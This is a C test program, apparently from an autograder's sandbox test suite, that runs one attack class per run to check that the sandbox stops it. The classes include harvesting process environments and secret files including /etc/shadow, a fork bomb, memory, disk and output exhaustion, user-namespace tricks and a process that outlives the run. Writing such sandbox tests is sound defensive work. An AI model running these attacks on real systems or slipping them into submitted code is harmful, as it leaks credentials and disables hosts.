/* A hostile lab program for the grader's tests: what a submission does once it has found the C
 * library's functions in memory, one class of attack per run. It is run the way the checker runs
 * a lab program in grading (grader/run-lab, in the sandbox):
 *
 *   attack --input FILE --variant CLASS
 *
 * FILE holds "key value" lines from the test (the secret token, host paths, the listener's port,
 * how many MiB to take). Everything the attack gets is printed on stdout and stderr, as a program
 * that wants it in its feedback would; the test looks there and outside for what got through.
 * Built as is it has no seal: the sandbox alone stands in its way. Built with -DATTACK_SEALED and
 * common/seal.c and seal_gpu.c, it seals itself first with the GPU backend's list, as the
 * harness does before the first lab code (the emulator's seal is held to the same classes by the
 * lab-file fixtures). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

#ifdef ATTACK_SEALED
#include "seal.h"
#endif

enum { MIB = 1 << 20 };
static char settings[8192];

/* The value of "key value" in the input file ("" when absent). */
static const char *setting(const char *key)
{
    static char value[1024];
    size_t len = strlen(key);
    value[0] = '\0';
    for (const char *line = settings; line && *line; line = strchr(line, '\n') ? strchr(line, '\n') + 1 : NULL)
        if (strncmp(line, key, len) == 0 && line[len] == ' ') {
            size_t n = strcspn(line + len + 1, "\n");
            snprintf(value, sizeof value, "%.*s", (int)n, line + len + 1);
            break;
        }
    return value;
}

static long mib_setting(void) { return atol(setting("mib")) > 0 ? atol(setting("mib")) : 64; }

/* Prints a file's contents (NULs as spaces), at most 64 KiB. */
static void show_file(const char *path)
{
    char text[65536];
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return;
    ssize_t got = read(fd, text, sizeof text - 1);
    close(fd);
    for (ssize_t i = 0; i < got; i++)
        if (text[i] == '\0')
            text[i] = ' ';
    printf("FILE %s: %.*s\n", path, got > 0 ? (int)got : 0, text);
}

static void show_link(const char *path)
{
    char target[4096];
    ssize_t n = readlink(path, target, sizeof target - 1);
    if (n >= 0)
        printf("LINK %s -> %.*s\n", path, (int)n, target);
}

/* Touches every page of [p, p + bytes): memory that counts. */
static void touch(char *p, size_t bytes)
{
    for (size_t i = 0; i < bytes; i += 4096)
        p[i] = 1;
}

static void report_mapping(const char *what, void *p, long mib)
{
    if (p == MAP_FAILED) {
        printf("REFUSED %s: %s\n", what, strerror(errno));
        return;
    }
    fflush(stdout);
    touch(p, (size_t)mib * MIB);
    printf("GOT %s: %ld MiB\n", what, mib);
    fflush(stdout);
}

/* ---- issue 41's classes ---- */

/* The grader's environment: every process's, pid 1 (bubblewrap's own) first. */
static void attack_environ(void)
{
    show_file("/proc/1/environ");
    show_file("/proc/self/environ");
    DIR *d = opendir("/proc");
    for (struct dirent *e; d && (e = readdir(d));) {
        char path[300];
        snprintf(path, sizeof path, "/proc/%s/environ", e->d_name);
        if (e->d_name[0] >= '1' && e->d_name[0] <= '9')
            show_file(path);
    }
}

/* A user namespace of its own, then a tmpfs of its own, filled past every bound. */
static void attack_userns(void)
{
    uid_t uid = getuid();
    gid_t gid = getgid();
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) {
        printf("REFUSED user namespace: %s\n", strerror(errno));
        return;
    }
    char map[64];
    int fd = open("/proc/self/setgroups", O_WRONLY);
    if (fd >= 0 && write(fd, "deny", 4) < 0)
        printf("setgroups: %s\n", strerror(errno));
    close(fd);
    snprintf(map, sizeof map, "0 %u 1", (unsigned)uid);
    fd = open("/proc/self/uid_map", O_WRONLY);
    if (fd < 0 || write(fd, map, strlen(map)) < 0)
        printf("uid_map: %s\n", strerror(errno));
    close(fd);
    snprintf(map, sizeof map, "0 %u 1", (unsigned)gid);
    fd = open("/proc/self/gid_map", O_WRONLY);
    if (fd < 0 || write(fd, map, strlen(map)) < 0)
        printf("gid_map: %s\n", strerror(errno));
    close(fd);
    printf("GOT a user namespace\n");
    if (mount("none", "/tmp", "tmpfs", 0, "size=100g") != 0) {
        printf("REFUSED tmpfs: %s\n", strerror(errno));
        return;
    }
    long mib = mib_setting(), written = 0;
    static char chunk[MIB];
    memset(chunk, 'x', sizeof chunk);
    fd = open("/tmp/fill", O_WRONLY | O_CREAT, 0600);
    while (fd >= 0 && written < mib && write(fd, chunk, sizeof chunk) == (ssize_t)sizeof chunk)
        written++;
    printf("GOT tmpfs of its own: %ld MiB\n", written);
}

/* Shared anonymous memory, in every way there is to ask for it. */
static void attack_shared(void)
{
    long mib = mib_setting();
    size_t bytes = (size_t)mib * MIB;
    report_mapping("MAP_SHARED|MAP_ANONYMOUS",
                   mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0), mib);
    report_mapping("MAP_SHARED_VALIDATE|MAP_ANONYMOUS",
                   mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_SHARED_VALIDATE | MAP_ANONYMOUS, -1, 0), mib);
    int zero = open("/dev/zero", O_RDWR);
    report_mapping("/dev/zero MAP_SHARED",
                   zero < 0 ? MAP_FAILED : mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_SHARED, zero, 0), mib);
    /* a stack that grows down: private, but the data-segment limit does not count it */
    report_mapping("MAP_GROWSDOWN",
                   mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_GROWSDOWN, -1, 0),
                   mib);
    /* and private memory, which the data-segment limit bounds */
    report_mapping("MAP_PRIVATE|MAP_ANONYMOUS",
                   mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0), mib);
}

/* System V shared memory and memfds: memory with no mapping needed to keep it. */
static void attack_sysv_memfd(void)
{
    long mib = mib_setting();
    size_t bytes = (size_t)mib * MIB;
    int id = shmget(IPC_PRIVATE, bytes, IPC_CREAT | 0600);
    if (id < 0)
        printf("REFUSED shmget: %s\n", strerror(errno));
    else {
        void *p = shmat(id, NULL, 0);
        report_mapping("System V shared memory", p == (void *)-1 ? MAP_FAILED : p, mib);
    }
    int fd = memfd_create("attack", 0);
    if (fd < 0) {
        printf("REFUSED memfd_create: %s\n", strerror(errno));
        return;
    }
    if (ftruncate(fd, (off_t)bytes) != 0)
        printf("REFUSED memfd ftruncate: %s\n", strerror(errno));
    else
        report_mapping("memfd", mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0), mib);
    /* many memfds, each written up to the file-size limit, none mapped */
    static char chunk[MIB];
    long written = 0;
    for (int i = 0; i < 64 && written < mib; i++) {
        int m = memfd_create("attack", 0);
        while (m >= 0 && written < mib && write(m, chunk, sizeof chunk) == (ssize_t)sizeof chunk)
            written++;
    }
    printf("GOT memfds written: %ld MiB\n", written);
}

/* Host paths: where the program, its files and the sandbox's own process come from. */
static void attack_paths(void)
{
    char path[300];
    for (int fd = 0; fd < 32; fd++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        show_link(path);
    }
    DIR *d = opendir("/proc");
    for (struct dirent *e; d && (e = readdir(d));) {
        if (e->d_name[0] < '1' || e->d_name[0] > '9')
            continue;
        static const char *const links[] = {"cwd", "root", "exe"};
        for (size_t i = 0; i < sizeof links / sizeof links[0]; i++) {
            snprintf(path, sizeof path, "/proc/%s/%s", e->d_name, links[i]);
            show_link(path);
        }
        snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
        show_file(path);
        snprintf(path, sizeof path, "/proc/%s/mountinfo", e->d_name);
        show_file(path);
        snprintf(path, sizeof path, "/proc/%s/maps", e->d_name);
        show_file(path);
        for (int fd = 0; fd < 32; fd++) {
            snprintf(path, sizeof path, "/proc/%s/fd/%d", e->d_name, fd);
            show_link(path);
        }
    }
    show_file("/proc/self/cgroup");
    char cwd[4096];
    if (getcwd(cwd, sizeof cwd))
        printf("CWD %s\n", cwd);
}

/* ---- the classes of the grader's other fixtures ---- */

static void attack_reader(void)
{
    static const char *const keys[] = {"secret", "secret2", "secret3"};
    for (size_t i = 0; i < sizeof keys / sizeof keys[0]; i++)
        if (*setting(keys[i]))
            show_file(setting(keys[i]));
    show_file("/etc/shadow");
}

static void attack_writer(void)
{
    static const char *const keys[] = {"marker", "marker2", "marker3"};
    for (size_t i = 0; i < sizeof keys / sizeof keys[0]; i++) {
        int fd = *setting(keys[i]) ? open(setting(keys[i]), O_WRONLY | O_CREAT, 0644) : -1;
        if (fd >= 0)
            printf("WROTE %s (%zd)\n", setting(keys[i]), write(fd, "written from a submission\n", 26));
        else if (*setting(keys[i]))
            printf("REFUSED %s: %s\n", setting(keys[i]), strerror(errno));
    }
}

static void attack_network(void)
{
    struct sockaddr_in to;
    memset(&to, 0, sizeof to);
    to.sin_family = AF_INET;
    to.sin_port = htons((unsigned short)atoi(setting("port")));
    to.sin_addr.s_addr = htonl(0x7f000001);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    int r = s < 0 ? -1 : connect(s, (struct sockaddr *)&to, sizeof to);
    printf(r == 0 ? "CONNECT SUCCEEDED\n" : "CONNECT FAILED (%s)\n", strerror(errno));
}

static void attack_fork_bomb(void)
{
    int forked = 0;
    for (; forked < 100000; forked++) {
        pid_t pid = fork();
        if (pid < 0)
            break;
        if (pid == 0) {
            pause(); /* the children live on: only the process limit holds them */
            _exit(0);
        }
    }
    printf("FORKED %d processes, then: %s\n", forked, strerror(errno));
}

/* A process that outlives the run: two forks, a new session, then a marker written late. */
static void attack_daemon(void)
{
    fflush(stdout);
    if (fork() != 0)
        return;
    setsid();
    if (fork() != 0)
        _exit(0);
    for (int fd = 0; fd < 64; fd++)
        close(fd);
    sleep((unsigned)atoi(setting("delay")));
    static const char *const keys[] = {"marker", "marker2"};
    for (size_t i = 0; i < sizeof keys / sizeof keys[0]; i++) {
        int fd = *setting(keys[i]) ? open(setting(keys[i]), O_WRONLY | O_CREAT, 0644) : -1;
        if (fd >= 0 && write(fd, "daemon\n", 7) < 0)
            _exit(1);
    }
    _exit(0);
}

/* Every place it may write, filled until a write fails. */
static void attack_disk(void)
{
    static char chunk[MIB];
    memset(chunk, 'x', sizeof chunk);
    const char *dirs[] = {".", "/tmp", "/dev/shm"};
    for (size_t d = 0; d < sizeof dirs / sizeof dirs[0]; d++) {
        long total = 0;
        for (int i = 0; i < 400; i++) {
            char path[300];
            snprintf(path, sizeof path, "%s/fill-%d", dirs[d], i);
            int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
            if (fd < 0)
                break;
            long here = 0;
            while (here < 4 && write(fd, chunk, sizeof chunk) == (ssize_t)sizeof chunk)
                here++;
            close(fd);
            total += here;
            if (here < 4)
                break;
        }
        printf("FILLED %s: %ld MiB\n", dirs[d], total);
    }
}

static void attack_output(void)
{
    static char chunk[MIB];
    memset(chunk, 'o', sizeof chunk);
    for (long mib = 0; mib < 100000; mib++)
        if (write(1, chunk, sizeof chunk) < 0)
            break;
}

int main(int argc, char **argv)
{
    const char *input = NULL, *variant = "";
    for (int i = 1; i + 1 < argc; i++) {
        if (strcmp(argv[i], "--input") == 0)
            input = argv[++i];
        else if (strcmp(argv[i], "--variant") == 0)
            variant = argv[++i];
    }
    int fd = input ? open(input, O_RDONLY) : -1;
    ssize_t got = fd >= 0 ? read(fd, settings, sizeof settings - 1) : 0;
    settings[got > 0 ? got : 0] = '\0';
    if (fd >= 0)
        close(fd);
    setvbuf(stdout, NULL, _IOLBF, 0);
#ifdef ATTACK_SEALED
    char status[160];
    seal_gpu(status, sizeof status);
    printf("SEAL %s\n", status);
#endif
    static const struct {
        const char *name;
        void (*run)(void);
    } attacks[] = {
        {"environ", attack_environ}, {"userns", attack_userns},     {"shared", attack_shared},
        {"sysv", attack_sysv_memfd}, {"paths", attack_paths},       {"reader", attack_reader},
        {"writer", attack_writer},   {"network", attack_network},   {"fork_bomb", attack_fork_bomb},
        {"daemon", attack_daemon},   {"disk", attack_disk},         {"output", attack_output},
    };
    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++)
        if (strcmp(variant, attacks[i].name) == 0) {
            attacks[i].run();
            printf("DONE %s\n", variant);
            return 0;
        }
    fprintf(stderr, "attack: no class '%s'\n", variant);
    return 2;
}
